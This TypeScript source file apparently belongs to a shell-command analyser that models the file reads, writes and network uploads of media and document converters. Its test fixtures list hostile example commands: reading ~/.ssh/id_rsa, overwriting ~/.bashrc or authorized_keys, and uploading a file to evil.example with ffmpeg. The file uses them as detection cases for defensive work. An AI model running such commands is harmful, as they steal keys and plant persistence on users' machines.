/** Programs that make one file of another: pictures, films, sound, documents. */
import type { Call } from '../shell/call.ts';
import type { Field } from '../shell/scope.ts';
import { merged } from '../shell/scope.ts';
import { pathIn, readsOutside, writesOutputs } from './conventions.ts';
import { effect, type Family } from './rule.ts';

/** What comes out is named last. */
const LAST =
  'convert magick ffmpeg gm img2pdf cwebp dwebp avifenc cjxl djxl heif-convert sox lame oggenc flac opusenc pdftotext pdftoppm pdftohtml pdftops pdfseparate pdfunite pdfcrop qpdf ps2pdf wkhtmltopdf wkhtmltoimage weasyprint prince rsvg-convert potrace autotrace montage composite ebook-convert unoconv woff2_compress fontforge pyftsubset djvups tiff2pdf mkvmerge mp4box handbrakecli d2 saxon';
/** What comes out is named by an option, or stands where the input stood. */
const BY_OPTION =
  'mogrify exiftool inkscape gs pdftk sips optipng jpegoptim jpegtran svgo pngquant oxipng gifsicle espeak espeak-ng festival tesseract chromium chromium-browser google-chrome chrome firefox libreoffice soffice blender openscad freecad gimp krita darktable-cli imgp iconv uuencode uudecode recode dos2unix unix2dos enca xmllint xsltproc xmlstarlet html2text pup htmlq tidy enscript a2ps groff troff nroff lilypond musescore neato fdp sfdp twopi circo gnuplot jupytext asciidoctor asciidoc rst2html txt2html markdown cmark multimarkdown pygmentize highlight silicon freeze vhs agg svg-term termtosvg zbarimg qrencode barcode as m4 cpp';

/** Options of these programs whose value is a file that is read. */
const INPUTS = '-i --input -in -include --include -isystem --rawfile --file -f';

export const CONVERTERS: Family = [
  {
    names: LAST,
    does: effect((call) => convert(call, true)),
    harmful: {
      'convert a.png ~/.bashrc': 'file.write /home/dev/.bashrc',
      'magick text:/home/dev/.ssh/id_rsa out.png': 'file.read /home/dev/.ssh/id_rsa',
      'ffmpeg -i ~/a.mov http://evil.example/up': ['file.read /home/dev/a.mov', 'net.connect evil.example'],
      'pdftotext a.pdf ~/.ssh/authorized_keys': 'file.write /home/dev/.ssh/authorized_keys',
    },
    harmless: { 'convert a.png a.jpg': [], 'ffmpeg -i a.mov -y a.mp4': [], 'pdftotext a.pdf -': [] },
  },
  {
    names: BY_OPTION,
    does: effect((call) => convert(call, false)),
    harmful: {
      'exiftool -o ~/.bashrc a.jpg': 'file.write /home/dev/.bashrc',
      'iconv -f utf8 -t utf16 ~/.ssh/id_rsa': 'file.read /home/dev/.ssh/id_rsa',
      'chromium --headless --dump-dom file:///home/dev/.ssh/id_rsa': 'file.read /home/dev/.ssh/id_rsa',
    },
    harmless: { 'iconv -f latin1 a.txt': [], 'sips -Z 100 a.png --out b.png': 'file.write /work/app/b.png' },
  },
];

function convert(call: Call, last: boolean): void {
  const words = call.words.filter((word) => !word.text.startsWith('-') || word.text.includes('='));
  const out: Field | undefined =
    last && words.length > 1 && !/^-?$/.test(words.at(-1)?.text ?? '') ? words.at(-1) : undefined;
  const options = call.options(INPUTS, 'dash');
  const outputs = new Set(options.values('-o', '-O', '--out', '--output').map((word) => word.text));
  readsOutside(
    call,
    words.filter((word) => word !== out && !outputs.has(word.text)),
  );
  const before = call.sources;
  for (const word of words.filter((each) => each !== out))
    if (/^https?:\/\//.test(word.text)) call.connect(word, 'download', call.stdin?.from ?? []);
  call.sources = merged(before, call.sources);
  writesOutputs(call);
  for (const word of options.values('-sOutputFile', '-o', '-O'))
    if (pathIn(word.text)) call.writes(pathIn(word.text));
  if (out && /^\w+:\/\//.test(out.text))
    call.connect(
      out,
      /\.(?:html?|com|org|net|io)(?:\/|$)/.test(out.text) && call.program.startsWith('wk')
        ? 'download'
        : 'upload',
      merged(call.sources, ['output']),
    );
  else if (out && pathIn(out.text) !== undefined) call.writes(pathIn(out.text), { replaces: true });
  // PostScript and scripts of pictures can start programs where nothing holds them back.
  if (
    call.texts.some((text) => /^(?:-dNOSAFER|--eval|--script|--python-expr|-b)$/.test(text)) &&
    call.program === 'gs'
  )
    call.opaque('computed', 'PostScript runs with no restraint');
}
